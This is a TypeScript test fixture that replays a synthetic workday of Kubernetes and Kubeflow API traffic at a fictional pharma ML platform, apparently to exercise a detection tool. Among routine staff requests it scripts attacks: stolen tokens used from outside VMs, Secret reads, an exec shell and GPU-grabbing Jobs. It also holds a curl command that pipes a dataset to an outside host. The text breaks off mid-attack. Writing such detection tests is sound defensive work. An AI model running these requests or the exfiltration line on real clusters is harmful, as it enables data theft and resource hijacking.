import { attackKit, type AttackRequest, type DayEvent, jitteredSittings, lastScoredOf, LINUX, type Login, MAC, podName, prng, type StaffMember, WIN, withAttacks, WS_UPGRADE } from './workday.js';
import { chromium, signInAt, sittings, type SittingRequest } from './sittings.js';

/**
 * A forty-third replayed day, written as an outside red team and an outside observer of real
 * engineers would after reading docs/risk.md, docs/configuration.md, docs/kubectl-stepup.md and
 * docs/guardrails.md, from a situation days 1–42 do not have: the ML platform of a drug-discovery
 * company (Helixa Therapeutics, Basel; `kubernetes.ml.helixa.example`, its Kubeflow central
 * dashboard `kubeflow.ml.helixa.example`) with a contract research lab on another continent
 * (Synthia Labs, Hyderabad, UTC+5:30) working in Kubeflow profiles of its own. Day 17 had an ML
 * platform's shared notebook server, pickled models and a profile shared through the dashboard;
 * what is new here is what the notebooks carry (each pod's mounted `default-editor` token, and a
 * data scientist's own kubelogin token pasted into the notebook's environment so that the notebook
 * terminal's kubectl works), the profiles' RBAC written with kubectl instead of the dashboard, GPU
 * quotas resized by hand for a screening campaign, nightly pipelines submitted by CI, and a lab
 * whose working day is Basel's night. Warm-up Tuesday 8 June 2027, scored Wednesday 9 June (hours
 * UTC; Basel is UTC+2).
 *
 * The site's edit of the example (`SITE`) names its own dashboard's host in
 * `kubeflow-profile-access` (the example names `kubeflow.localhost`), as any site running Kubeflow
 * would, and (session 48) the destinations its workloads upload to in `guardrails.upload_hosts`
 * (its S3 endpoint, its `helixa-*` buckets on S3 and Cloud Storage, its registry and artifact hosts). Nothing else is changed.
 *
 * Routine, as the tools send it:
 * - three data scientists (two factors), each the owner of a Kubeflow profile (`research-oncology`,
 *   `research-genomics`, `research-chem`): the dashboard in the browser (its notebooks, pipeline
 *   runs), their training pods' logs, a long-running `kubectl port-forward` to TensorBoard, now and
 *   then their profile's dataset Secret; ds-1 in the office, and from its notebook's terminal with
 *   the token pasted into the notebook's environment (the Python client, from the cluster's NAT);
 *   ds-2 at home in the afternoon; ds-3 in the office;
 * - two ML engineers (two factors, Linux): RayJobs and GPU training Jobs in `ml-training`, the GPU
 *   nodes, a port-forward to the Ray dashboard, the staging InferenceService's model version;
 * - the MLOps engineer (hardware key): Kubeflow's own namespace, the pipelines' Workflows, the
 *   profiles; a contractor added to the lab's profile through the dashboard on the scored day;
 * - the feature-store owner (two factors): Feast's pods and logs, `kubectl create job
 *   --from=cronjob/feast-materialize` twice a day;
 * - two platform engineers (hardware keys): plat-1 in the office resizes the research profiles' GPU
 *   quotas (oncology 16 → 48 GPUs at 09:36 for the screening campaign, back at 16:12); plat-2 works
 *   the afternoon and on call in the evening from home;
 * - the contract lab's three (two factors, the lab's Windows desktops, its one egress address,
 *   03:30–12:30 UTC): their profile's notebooks and pipeline runs in the dashboard, logs,
 *   TensorBoard;
 * - CI (`ci:kfp-publisher`): the nightly retraining pipelines (Argo Workflows compiled by KFP) every
 *   30 minutes 00:30–04:30, the staging InferenceService's model version every 40 minutes by day.
 *
 * The attacks, each written after reading what stepgate looks at:
 * - the `default-editor` token mounted in ds-1's notebook pod, read by a malicious package the
 *   notebook installed, used from a cloud VM: the profile's Secrets, a GPU Job;
 * - ds-1's own token from the notebook's environment (the same package), used from a VM in the
 *   cluster's own cloud region with the notebook's Python client: the dataset Secret, a shell;
 * - a pipeline spec changed in the repository (a merged pull request) that CI submits at 02:40: a
 *   step that ships the compound library out after training, and the poisoned model registered;
 * - ml-2's token copied by an infostealer, from a VPS at 23:40: GPU Jobs asking every GPU (miners
 *   named as trainers);
 * - malware on ds-3's laptop: a RoleBinding in `research-chem` giving an outside address Kubeflow's
 *   edit role, in the shape the dashboard writes it;
 * - malware on the MLOps engineer's laptop: the oncology Profile's owner changed to an outside
 *   address (Kubeflow's controller rebinds the namespace's admin role to whoever owns it);
 * - malware on ds-2's laptop at home: the other profiles' dataset Secrets read, one by one;
 * - the malicious package inside ds-1's notebook (the cluster's NAT, the Python client, ds-1's
 *   pasted token: the context of ds-1's own terminal) once the screening campaign's quota is up:
 *   six 8-GPU Jobs named as the campaign's shards, then genomics' dataset Secret.
 */

export const D43_TUE = Date.UTC(2027, 5, 8, 0, 0, 0); // warm-up
export const D43_WED = Date.UTC(2027, 5, 9, 0, 0, 0); // scored
const [H, M, S] = [3_600_000, 60_000, 1000];

/** Under the example's `kubernetes.**` hosts. */
export const API = 'kubernetes.ml.helixa.example';
/** The Kubeflow central dashboard (Istio's ingress; not a Kubernetes API host). */
export const KUBEFLOW = 'kubeflow.ml.helixa.example';
/** The model registry's REST API (Kubeflow Model Registry). */
export const MODEL_REGISTRY = 'modelregistry.ml.helixa.example';
export const KUBECTL = (os: string) => `kubectl/v1.31.4 (${os}) kubernetes/4fc9b58`;
/** The Kubernetes Python client, as a notebook's kernel or terminal sends it. */
export const PYCLIENT = 'OpenAPI-Generator/31.0.0/python';
const CHROME = (os: string) => `Mozilla/5.0 (${os}) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/137.0.0.0 Safari/537.36`;
const CH_UA = '"Google Chrome";v="137", "Chromium";v="137", "Not/A)Brand";v="24"';
const MERGE = { 'content-type': 'application/merge-patch+json' };
const SMP = { 'content-type': 'application/strategic-merge-patch+json' };
const JSON_CT = { 'content-type': 'application/json' };
export const WS_PF = { connection: 'Upgrade', upgrade: 'websocket', 'sec-websocket-protocol': 'SPDY/3.1+portforward.k8s.io' };

export const nameOf = (short: string) => `d43-${short}@helixa.example`;
export const CRO_SUB = (short: string) => `d43-${short}@synthialabs.example`;
export const OUTSIDER = 'j.okafor.research@protonmail.example';

export const BASEL = '193.246.88.10';
export const LAB = '49.205.113.6';
export const HOME: Readonly<Record<string, string>> = { 'ds-2': '178.197.210.44', 'plat-2': '85.1.77.23' };
/** The cluster's Cloud NAT (GCP europe-west6): what a notebook pod's requests to the gateway come from. */
export const CLUSTER_NAT = '34.65.118.20';
export const CI_IP = (j: number) => `10.43.9.${30 + (j % 5)}`;

type Kind = 'ds' | 'ml' | 'mlops' | 'fs' | 'plat' | 'cro';
type Where = 'office' | 'home' | 'lab';

interface Person extends StaffMember<Where> {
  short: string;
  kind: Kind;
  ua: string;
  acr: Login['acr'];
  /** Their Kubeflow profile's namespace (or the namespace they work in). */
  ns: string;
}

function staff(rand: () => number): Person[] {
  const out: Person[] = [];
  const add = (short: string, name: string, kind: Kind, ns: string, os: string, acr: Login['acr'], warm: [number, number, Where][], scored: [number, number, Where][]) => {
    const kubectlOs = os === LINUX ? 'linux/amd64' : os === WIN ? 'windows/amd64' : 'darwin/arm64';
    out.push({ name, short, idx: out.length, svc: kind, kind, ns, ua: KUBECTL(kubectlOs), os, kubectlOs, kubectlVersion: 'v1.31.4', acr, warm: jitteredSittings(rand, warm), scored: jitteredSittings(rand, scored) });
  };
  const day: [number, number, Where][] = [[7, 11, 'office'], [11.75, 16, 'office']];
  add('ds-1', nameOf('ds-1'), 'ds', 'research-oncology', MAC, 'urn:stepgate:aal2', day, [[7, 11, 'office'], [11.75, 16.5, 'office']]);
  add('ds-2', nameOf('ds-2'), 'ds', 'research-genomics', MAC, 'urn:stepgate:aal2', [[7.5, 11.5, 'office'], [12.5, 16, 'home']], [[7.5, 11.5, 'office'], [12.5, 16.5, 'home']]);
  add('ds-3', nameOf('ds-3'), 'ds', 'research-chem', WIN, 'urn:stepgate:aal2', day, [[7.25, 11, 'office'], [12, 16.25, 'office']]);
  add('ml-1', nameOf('ml-1'), 'ml', 'ml-training', LINUX, 'urn:stepgate:aal2', day, day);
  add('ml-2', nameOf('ml-2'), 'ml', 'ml-training', LINUX, 'urn:stepgate:aal2', [[8, 12, 'office'], [13, 17, 'office']], [[8, 12, 'office'], [13, 17.5, 'office']]);
  add('mlops', nameOf('mlops'), 'mlops', 'kubeflow', MAC, 'urn:stepgate:aal3', day, day);
  add('fs-1', nameOf('fs-1'), 'fs', 'feature-store', LINUX, 'urn:stepgate:aal2', [[6.5, 15, 'office']], [[6.5, 15, 'office']]);
  add('plat-1', nameOf('plat-1'), 'plat', 'gpu-operator', LINUX, 'urn:stepgate:aal3', [[7, 16, 'office']], [[7, 16.5, 'office']]);
  add('plat-2', nameOf('plat-2'), 'plat', 'gpu-operator', LINUX, 'urn:stepgate:aal3', [[12, 16, 'office'], [18, 21, 'home']], [[12, 16, 'office'], [18, 22, 'home']]);
  add('cro-1', CRO_SUB('cro-1'), 'cro', 'cro-synthia', WIN, 'urn:stepgate:aal2', [[3.5, 12.5, 'lab']], [[3.5, 12.5, 'lab']]);
  add('cro-2', CRO_SUB('cro-2'), 'cro', 'cro-synthia', WIN, 'urn:stepgate:aal2', [[4, 8, 'lab'], [8.75, 12.5, 'lab']], [[4, 8, 'lab'], [8.75, 12.5, 'lab']]);
  add('cro-3', CRO_SUB('cro-3'), 'cro', 'cro-synthia', WIN, 'urn:stepgate:aal2', [[3.5, 11, 'lab']], [[3.5, 11, 'lab']]);
  return out;
}

const addressOf = (p: Person, where: Where): string => (where === 'office' ? BASEL : where === 'lab' ? LAB : HOME[p.short]!);

type Req = SittingRequest;

const SECRET = (ns: string, name: string) => `/api/v1/namespaces/${ns}/secrets/${name}`;
const QUOTA = (ns: string) => `/api/v1/namespaces/${ns}/resourcequotas/kf-resource-quota`;
const JOBS = (ns: string) => `/apis/batch/v1/namespaces/${ns}/jobs`;
const ISVC = '/apis/serving.kserve.io/v1beta1/namespaces/models-staging/inferenceservices/potency-predictor';
const WORKFLOWS = '/apis/argoproj.io/v1alpha1/namespaces/ml-pipelines/workflows';

/** `kubectl port-forward pod/<tensorboard> 6006`: one long-running WebSocket the tool opens once. */
export const tensorboard = (ns: string, n: number): Req => ({ method: 'GET', path: `/api/v1/namespaces/${ns}/pods/${podName('tensorboard', n % 2)}/portforward?ports=6006`, headers: WS_PF });

/**
 * A training Job (`kubectl apply -f train.yaml`): `gpus` GPUs on the A100 pool, the dataset
 * Secret as the environment. The miner is the same shape, named as a trainer.
 */
export const gpuJob = (ns: string, name: string, image: string, gpus: number, args: string[]): string =>
  JSON.stringify({
    apiVersion: 'batch/v1',
    kind: 'Job',
    metadata: { name, namespace: ns, labels: { team: 'ml', 'app.kubernetes.io/part-of': 'training' } },
    spec: {
      backoffLimit: 2,
      template: {
        metadata: { labels: { 'app.kubernetes.io/part-of': 'training' } },
        spec: {
          restartPolicy: 'Never',
          nodeSelector: { 'cloud.google.com/gke-accelerator': 'nvidia-tesla-a100' },
          tolerations: [{ key: 'nvidia.com/gpu', operator: 'Exists', effect: 'NoSchedule' }],
          containers: [
            {
              name: 'trainer',
              image,
              args,
              envFrom: [{ secretRef: { name: 'dataset-s3' } }],
              resources: { limits: { 'nvidia.com/gpu': String(gpus), memory: `${gpus * 60}Gi` }, requests: { cpu: String(gpus * 8) } },
              securityContext: { runAsNonRoot: true, allowPrivilegeEscalation: false, capabilities: { drop: ['ALL'] }, seccompProfile: { type: 'RuntimeDefault' } },
            },
          ],
        },
      },
    },
  });

/** A RayJob (`kubectl apply -f rayjob.yaml`): a head and `workers` GPU workers. */
const rayJob = (name: string, workers: number): string =>
  JSON.stringify({
    apiVersion: 'ray.io/v1',
    kind: 'RayJob',
    metadata: { name, namespace: 'ml-training' },
    spec: {
      entrypoint: 'python -m helixa.train.sweep --config configs/potency.yaml',
      shutdownAfterJobFinishes: true,
      rayClusterSpec: {
        headGroupSpec: { rayStartParams: {}, template: { spec: { containers: [{ name: 'ray-head', image: 'registry.ml.helixa.example/ml/ray:2.44.1-gpu' }] } } },
        workerGroupSpecs: [{ groupName: 'a100', replicas: workers, rayStartParams: {}, template: { spec: { containers: [{ name: 'ray-worker', image: 'registry.ml.helixa.example/ml/ray:2.44.1-gpu', resources: { limits: { 'nvidia.com/gpu': '1' } } }] } } }],
      },
    },
  });

/**
 * A KFP v2 run compiled to an Argo Workflow, as CI's `kfp` submits it: train, evaluate, register.
 * `train`'s script is the repository's; the poisoned spec's ships the compound library out after training.
 */
export const pipelineWorkflow = (name: string, train: string): string =>
  JSON.stringify({
    apiVersion: 'argoproj.io/v1alpha1',
    kind: 'Workflow',
    metadata: { generateName: `${name}-`, namespace: 'ml-pipelines', labels: { 'pipelines.kubeflow.org/v2_component': 'true' } },
    spec: {
      entrypoint: 'potency-retrain',
      serviceAccountName: 'pipeline-runner',
      templates: [
        { name: 'potency-retrain', dag: { tasks: [{ name: 'train', template: 'train' }, { name: 'evaluate', template: 'evaluate', dependencies: ['train'] }, { name: 'register', template: 'register', dependencies: ['evaluate'] }] } },
        { name: 'train', container: { image: 'registry.ml.helixa.example/ml/trainer:3.2.0', command: ['sh', '-c'], args: [train], resources: { limits: { 'nvidia.com/gpu': '4' } } } },
        { name: 'evaluate', container: { image: 'registry.ml.helixa.example/ml/trainer:3.2.0', command: ['python', '-m', 'helixa.eval'], args: ['--model', '/mnt/models/potency'] } },
        { name: 'register', container: { image: 'registry.ml.helixa.example/ml/registry-client:1.4.0', command: ['python', '-m', 'helixa.register'], args: ['--name', 'potency-predictor'] } },
      ],
    },
  });
export const TRAIN = 'python -m helixa.train --config configs/potency.yaml --out /mnt/models/potency';

/** A data scientist's sitting: the dashboard, their training pods, TensorBoard, now and then their dataset Secret. */
function dsTask(rand: () => number, p: Person, n: number, where: Where): Req[] {
  const k = rand();
  const ns = p.ns;
  if (k < 0.25) return [{ method: 'GET', host: KUBEFLOW, path: '/api/workgroup/env-info', browser: true }, { method: 'GET', host: KUBEFLOW, path: `/jupyter/api/namespaces/${ns}/notebooks`, browser: true }];
  if (k < 0.4) return [{ method: 'GET', path: `/api/v1/namespaces/${ns}/pods?limit=500` }];
  if (k < 0.55) return [{ method: 'GET', path: `/api/v1/namespaces/${ns}/pods/${podName('train', n % 3)}/log?container=trainer&tailLines=200` }];
  if (k < 0.67) return [{ method: 'GET', host: KUBEFLOW, path: `/pipeline/apis/v2beta1/runs?namespace=${ns}&page_size=20&sort_by=created_at%20desc`, browser: true }];
  if (k < 0.77) return [tensorboard(ns, n)];
  // ds-1's notebook terminal: kubectl's Python cousin with the token pasted into the notebook's environment.
  if (p.short === 'ds-1' && where === 'office' && k < 0.93) return [{ method: 'GET', path: `/api/v1/namespaces/${ns}/pods?labelSelector=app%3Dtrain`, ua: PYCLIENT, ip: CLUSTER_NAT }, { method: 'GET', path: `/apis/batch/v1/namespaces/${ns}/jobs?limit=50`, ua: PYCLIENT, ip: CLUSTER_NAT }];
  if (k < 0.85) return [{ method: 'GET', path: `/api/v1/namespaces/${ns}/events?limit=500` }];
  return [{ method: 'GET', path: SECRET(ns, 'dataset-s3') }];
}

/** An ML engineer: RayJobs and GPU Jobs, the GPU nodes, the Ray dashboard, the staging model. */
function mlTask(rand: () => number, p: Person, n: number): Req[] {
  const k = rand();
  if (k < 0.25) return [{ method: 'GET', path: '/api/v1/namespaces/ml-training/pods?limit=500' }];
  if (k < 0.45) return [{ method: 'GET', path: `/api/v1/namespaces/ml-training/pods/${podName('potency-sweep', n % 4)}/log?container=ray-worker&tailLines=300` }];
  if (k < 0.55) return [{ method: 'GET', path: '/api/v1/nodes?labelSelector=cloud.google.com%2Fgke-accelerator' }];
  if (k < 0.65) {
    const name = `${p.short}-sweep-${n}`;
    return [{ method: 'POST', path: '/apis/ray.io/v1/namespaces/ml-training/rayjobs?fieldManager=kubectl-client-side-apply&fieldValidation=Strict', headers: JSON_CT, body: rayJob(name, 2 + (n % 3)) }, { method: 'GET', path: `/apis/ray.io/v1/namespaces/ml-training/rayjobs/${name}` }];
  }
  if (k < 0.75) {
    const name = `${p.short}-train-${n}`;
    return [{ method: 'POST', path: `${JOBS('ml-training')}?fieldManager=kubectl-client-side-apply&fieldValidation=Strict`, headers: JSON_CT, body: gpuJob('ml-training', name, 'registry.ml.helixa.example/ml/trainer:3.2.0', 1 + (n % 2), ['--config', 'configs/potency.yaml']) }, { method: 'GET', path: `${JOBS('ml-training')}/${name}` }];
  }
  if (k < 0.85) return [{ method: 'GET', path: `/api/v1/namespaces/ml-training/pods/${podName('ray-head', n % 2)}/portforward?ports=8265`, headers: WS_PF }];
  if (k < 0.93) return [{ method: 'GET', path: ISVC }];
  return [{ method: 'GET', path: '/api/v1/namespaces/ml-training/events?limit=500' }];
}

/** The MLOps engineer: Kubeflow's namespace, the pipelines' Workflows, the profiles. */
function mlopsTask(rand: () => number, n: number): Req[] {
  const k = rand();
  if (k < 0.3) return [{ method: 'GET', path: '/api/v1/namespaces/kubeflow/pods?limit=500' }];
  if (k < 0.5) return [{ method: 'GET', path: `/api/v1/namespaces/kubeflow/pods/${podName('ml-pipeline', n % 2)}/log?container=ml-pipeline-api-server&tailLines=300` }];
  if (k < 0.7) return [{ method: 'GET', path: `${WORKFLOWS}?limit=50` }];
  if (k < 0.85) return [{ method: 'GET', path: '/apis/kubeflow.org/v1/profiles' }];
  return [{ method: 'GET', host: KUBEFLOW, path: '/api/workgroup/env-info', browser: true }, { method: 'GET', host: KUBEFLOW, path: '/kfam/v1/bindings?namespace=cro-synthia', browser: true }];
}

/** The feature-store owner: Feast's pods and logs, its registry ConfigMap. */
function fsTask(rand: () => number, n: number): Req[] {
  const k = rand();
  if (k < 0.4) return [{ method: 'GET', path: '/api/v1/namespaces/feature-store/pods?limit=500' }];
  if (k < 0.75) return [{ method: 'GET', path: `/api/v1/namespaces/feature-store/pods/${podName('feast-server', n % 2)}/log?container=feast&tailLines=300` }];
  if (k < 0.9) return [{ method: 'GET', path: '/api/v1/namespaces/feature-store/configmaps/feast-registry' }];
  return [{ method: 'GET', path: '/apis/batch/v1/namespaces/feature-store/cronjobs' }];
}

/** A platform engineer: nodes, the GPU operator, the research profiles' quotas. */
function platTask(rand: () => number, n: number): Req[] {
  const k = rand();
  if (k < 0.3) return [{ method: 'GET', path: '/api/v1/nodes' }];
  if (k < 0.5) return [{ method: 'GET', path: '/api/v1/namespaces/gpu-operator/pods?limit=500' }];
  if (k < 0.65) return [{ method: 'GET', path: `/api/v1/namespaces/gpu-operator/pods/${podName('nvidia-dcgm-exporter', n % 4)}/log?tailLines=200` }];
  if (k < 0.8) return [{ method: 'GET', path: '/api/v1/resourcequotas?limit=500' }];
  return [{ method: 'GET', path: '/api/v1/events?limit=500&fieldSelector=type%3DWarning' }];
}

/** The contract lab: its profile's notebooks and runs in the dashboard, logs, TensorBoard. */
function croTask(rand: () => number, n: number): Req[] {
  const k = rand();
  if (k < 0.3) return [{ method: 'GET', host: KUBEFLOW, path: '/api/workgroup/env-info', browser: true }, { method: 'GET', host: KUBEFLOW, path: '/jupyter/api/namespaces/cro-synthia/notebooks', browser: true }];
  if (k < 0.5) return [{ method: 'GET', host: KUBEFLOW, path: '/pipeline/apis/v2beta1/runs?namespace=cro-synthia&page_size=20&sort_by=created_at%20desc', browser: true }];
  if (k < 0.7) return [{ method: 'GET', path: '/api/v1/namespaces/cro-synthia/pods?limit=500' }];
  if (k < 0.88) return [{ method: 'GET', path: `/api/v1/namespaces/cro-synthia/pods/${podName('docking', n % 3)}/log?container=main&tailLines=200` }];
  return [tensorboard('cro-synthia', n)];
}


/**
 * The site names its own Kubeflow dashboard in kubeflow-profile-access (the example names
 * kubeflow.localhost), and (session 48) where its workloads upload in `guardrails.upload_hosts`
 * (the example lists none): its S3 region's endpoint and its own buckets (S3, Cloud Storage), its model registry and
 * artifact store; MinIO and MLflow run in the cluster (Services: no entry). Inserted before
 * `host_owners` in the guardrails section.
 */
export function SITE(yaml: string): string {
  const anchor = '        hosts: [kubeflow.localhost]\n';
  if (!yaml.includes(anchor)) throw new Error('day 43: the example no longer names kubeflow.localhost in kubeflow-profile-access');
  const owners = '\n  host_owners:\n';
  const at = yaml.indexOf(owners);
  if (at < 0) throw new Error('day 43: the example no longer has guardrails.host_owners');
  const uploads = `  upload_hosts: [s3.eu-central-1.amazonaws.com, "s3://helixa-*", "gs://helixa-*", registry.ml.helixa.example, artifacts.ml.helixa.example]\n`;
  const listed = `${yaml.slice(0, at + 1)}${uploads}${yaml.slice(at + 1)}`;
  return listed.replace(anchor, `        hosts: [kubeflow.localhost, ${KUBEFLOW}]\n`);
}

export function workday43(seed = 411): DayEvent[] {
  const rand = prng(seed * 2_654_435_761 + 43);
  const people = staff(rand);
  const events: DayEvent[] = [];
  const replay = sittings<Where, Person>(rand, people, {
    events,
    api: API,
    addressOf: (p, where) => addressOf(p, where),
    usualPlace: (p) => (p.kind === 'cro' ? 'lab' : p.short in HOME ? 'home' : 'office'),
    browser: chromium(CHROME, CH_UA),
  });
  for (const [day, scored] of [[D43_TUE, false], [D43_WED, true]] as const) {
    const { at, push } = replay(day, scored, {
      task: (p, n, _t, where) =>
        p.kind === 'ds' ? dsTask(rand, p, n, where) : p.kind === 'ml' ? mlTask(rand, p, n) : p.kind === 'mlops' ? mlopsTask(rand, n) : p.kind === 'fs' ? fsTask(rand, n) : p.kind === 'plat' ? platTask(rand, n) : croTask(rand, n),
      pace: (p) => (p.kind === 'plat' || p.kind === 'ml' ? [6, 14] : [8, 22]),
    });
    const by = (s: string) => people.find((p) => p.short === s)!;
    const [plat1, mlops, fs1] = [by('plat-1'), by('mlops'), by('fs-1')];
    // The research profiles' GPU quotas resized by hand: the screening campaign's 48 GPUs for
    // oncology on the scored day (and back at the end of it), genomics' 8 → 16 on the warm-up day.
    const resize = (ns: string, gpus: number, h: number) =>
      push(plat1, at(h), [{ method: 'GET', path: QUOTA(ns) }, { method: 'PATCH', path: QUOTA(ns), headers: SMP, body: JSON.stringify({ spec: { hard: { 'requests.nvidia.com/gpu': String(gpus), 'requests.cpu': String(gpus * 12), 'requests.memory': `${gpus * 96}Gi` } } }) }], 40 * S);
    if (scored) {
      resize('research-oncology', 48, 9.6);
      resize('research-oncology', 16, 16.2);
    } else resize('research-genomics', 16, 11);
    // A contractor added to the lab's profile through the dashboard's "Manage contributors" (KFAM).
    const newcomer = scored ? CRO_SUB('cro-4') : CRO_SUB('cro-3');
    push(mlops, at(scored ? 9.5 : 8.2), [{ method: 'GET', host: KUBEFLOW, path: '/kfam/v1/bindings?namespace=cro-synthia', browser: true }, { method: 'POST', host: KUBEFLOW, path: '/kfam/v1/bindings', headers: JSON_CT, body: JSON.stringify({ user: { kind: 'User', name: newcomer }, referredNamespace: 'cro-synthia', RoleRef: { kind: 'ClusterRole', name: 'kubeflow-edit' } }), browser: true }], 30 * S);
    // Feast's materialization by hand after the morning's and the afternoon's feature loads.
    for (const h of [7.1, 13.6]) {
      const stamp = `${Math.round(h * 10)}${scored ? 'w' : 't'}`;
      push(fs1, at(h), [{ method: 'POST', path: JOBS('feature-store'), headers: JSON_CT, body: JSON.stringify({ kind: 'Job', apiVersion: 'batch/v1', metadata: { name: `feast-materialize-${stamp}`, namespace: 'feature-store', annotations: { 'cronjob.kubernetes.io/instantiate': 'manual' }, ownerReferences: [{ apiVersion: 'batch/v1', kind: 'CronJob', name: 'feast-materialize', uid: '8c1f2d7e-4b0a-4c9e-a5d1-3e7f9b2c6a10', controller: true }] }, spec: { backoffLimit: 1, template: { spec: { restartPolicy: 'Never', serviceAccountName: 'feast', containers: [{ name: 'materialize', image: 'registry.ml.helixa.example/data/feast:0.46.0', args: ['materialize-incremental', '$(NOW)'], envFrom: [{ secretRef: { name: 'feast-offline-store' } }] }] } } } }) }, { method: 'GET', path: `${JOBS('feature-store')}/feast-materialize-${stamp}` }], 20 * S);
    }
    // ml-1's large sweep in the afternoon, when the campaign's quota is up.
    if (scored) push(by('ml-1'), at(13.2), [{ method: 'POST', path: '/apis/ray.io/v1/namespaces/ml-training/rayjobs?fieldManager=kubectl-client-side-apply&fieldValidation=Strict', headers: JSON_CT, body: rayJob('ml-1-screen-campaign', 16) }], S);
    // CI: the nightly retraining pipelines, and the staging model's version by day.
    const ci: Login = { sub: 'system:serviceaccount:ci:kfp-publisher', sid: '', authTime: undefined, acr: 'urn:stepgate:aal1', serviceAccount: true };
    for (let j = 0; j < 9; j++) {
      const t = day + 0.5 * H + j * 30 * M;
      const base = { actor: 'ci', scored, ip: CI_IP(j), ua: PYCLIENT, login: ci, host: API };
      events.push({ ...base, at: t, method: 'POST', path: WORKFLOWS, headers: JSON_CT, body: pipelineWorkflow(['potency-retrain', 'admet-retrain', 'solubility-retrain'][j % 3]!, TRAIN) });
      events.push({ ...base, at: t + 20 * S, method: 'GET', path: `${WORKFLOWS}?labelSelector=pipelines.kubeflow.org%2Fv2_component%3Dtrue&limit=20` });
    }
    for (let j = 0; j < 17; j++) {
      const t = day + 7 * H + j * 40 * M;
      const base = { actor: 'ci', scored, ip: CI_IP(j), ua: KUBECTL('linux/amd64'), login: ci, host: API };
      const version = (seed * 7919 + j * 104729 + (scored ? 1 : 0)).toString(16).slice(0, 7);
      events.push({ ...base, at: t, method: 'PATCH', path: ISVC, headers: MERGE, body: JSON.stringify({ spec: { predictor: { model: { storageUri: `gs://helixa-models/potency/${version}` } } } }) });
      events.push({ ...base, at: t + 30 * S, method: 'GET', path: ISVC });
    }
  }
  events.sort((a, b) => a.at - b.at);
  return withAttacks(events, attacks43(people, events));
}

/** The attack rows' names, as the matrix and the targets name them. */
export const A43 = {
  podToken: "the default-editor token mounted in ds-1's notebook pod, read by a malicious package, used from a cloud VM: the profile's Secrets, a GPU Job",
  envToken: "ds-1's own token from the notebook's environment, used from a VM in the cluster's cloud region with the notebook's Python client: the dataset Secret, a shell",
  pipeline: "a pipeline spec changed in the repository, submitted by CI at 02:40: a training step that ships the compound library out, the poisoned model registered",
  miner: "ml-2's token copied by an infostealer, from a VPS at 23:40: GPU Jobs asking every GPU, named as trainers",
  binding: "malware on ds-3's laptop: a RoleBinding in research-chem giving an outside address Kubeflow's edit role, as the dashboard writes it",
  profileOwner: "malware on the MLOps engineer's laptop: the oncology Profile's owner changed to an outside address",
  crossNs: "malware on ds-2's laptop at home: the other research profiles' dataset Secrets read one by one",
  notebook: "the malicious package inside ds-1's notebook, with the token in its environment, after the quota raise: six 8-GPU Jobs in oncology, then genomics' dataset Secret",
} as const;

/** The compound library tarred and sent out after training (no credential in it: the data itself). */
export const EXFIL_TRAIN = `${TRAIN} && tar czf - /mnt/datasets/compound-library | curl -sS -X PUT --data-binary @- https://artifacts.helixa-ml-cache.net/u/potency`;

/** Kubeflow's contributor RoleBinding as KFAM writes it (its name and annotations), for `user` in `ns`. */
export const kfamBinding = (ns: string, user: string): string =>
  JSON.stringify({
    apiVersion: 'rbac.authorization.k8s.io/v1',
    kind: 'RoleBinding',
    metadata: { name: `user-${user.replace(/[@.]/g, '-')}-clusterrole-edit`, namespace: ns, annotations: { role: 'edit', user } },
    roleRef: { apiGroup: 'rbac.authorization.k8s.io', kind: 'ClusterRole', name: 'kubeflow-edit' },
    subjects: [{ apiGroup: 'rbac.authorization.k8s.io', kind: 'User', name: user }],
  });

function attacks43(people: Person[], routine: DayEvent[]): DayEvent[] {
  const out: DayEvent[] = [];
  const { by, add, T, on } = attackKit(out, people, D43_WED, API);
  /** Malware on the person's laptop: their address, kubectl and token at that moment. */
  const laptop = (attack: string, p: Person, h: number, reqs: AttackRequest[], gap: number) => {
    const v = lastScoredOf(routine, p.name, T(h), (e) => e.ua.startsWith('kubectl'));
    add(attack, T(h), v.ip, v.ua, v.login, reqs, gap, p);
  };

  // 1. The notebook pod's mounted token (the profile's `default-editor`), from a cloud VM at 22:10.
  const podSa: Login = { sub: 'system:serviceaccount:research-oncology:default-editor', sid: '', authTime: undefined, acr: 'urn:stepgate:aal1', serviceAccount: true };
  add(A43.podToken, T(22.17), '18.184.77.120', PYCLIENT, podSa, on([
    ['GET', '/api/v1/namespaces/research-oncology/secrets?limit=500', true],
    ['GET', SECRET('research-oncology', 'dataset-s3'), true],
    ['POST', JOBS('research-oncology'), true, JSON_CT, gpuJob('research-oncology', 'potency-eval-7', 'registry.ml.helixa.example/ml/trainer:3.2.0', 8, ['--config', 'configs/eval.yaml'])],
  ]), 20 * S);

  // 2. ds-1's own token from the notebook's environment, from a VM in europe-west6 at 15:20.
  const ds1 = by('ds-1');
  const v2 = lastScoredOf(routine, ds1.name, T(15.33), () => true);
  add(A43.envToken, T(15.33), '34.65.201.77', PYCLIENT, v2.login, on([
    ['GET', '/api/v1/namespaces/research-oncology/pods?labelSelector=app%3Dtrain', false],
    ['GET', SECRET('research-oncology', 'dataset-s3'), true],
    ['POST', `/api/v1/namespaces/research-oncology/pods/${podName('train', 1)}/exec?command=sh&container=trainer&stdin=true&stdout=true&tty=true`, true, WS_UPGRADE],
  ]), 25 * S, ds1);

  // 3. The changed pipeline spec as CI submits it at 02:40, then the poisoned model registered.
  const ci: Login = { sub: 'system:serviceaccount:ci:kfp-publisher', sid: '', authTime: undefined, acr: 'urn:stepgate:aal1', serviceAccount: true };
  add(A43.pipeline, T(2.67), CI_IP(3), PYCLIENT, ci, on([
    ['POST', WORKFLOWS, true, JSON_CT, pipelineWorkflow('potency-retrain', EXFIL_TRAIN)],
    ['POST', '/api/model_registry/v1alpha3/registered_models/7/versions', true, JSON_CT, JSON.stringify({ name: 'potency-2027.6.9-nightly', registeredModelId: '7', customProperties: { uri: { string_value: 'gs://helixa-models/potency/2027.6.9-nightly/model.pkl', metadataType: 'MetadataStringValue' } } }), MODEL_REGISTRY],
  ]), 40 * M);

  // 4. ml-2's copied token from a VPS at 23:40: every GPU asked for, three Jobs of 8.
  const ml2 = by('ml-2');
  const v4 = lastScoredOf(routine, ml2.name, T(23.67), (e) => e.ua.startsWith('kubectl'));
  add(A43.miner, T(23.67), '45.134.26.8', v4.ua, v4.login, on([
    ['GET', '/api/v1/nodes?labelSelector=cloud.google.com%2Fgke-accelerator', false],
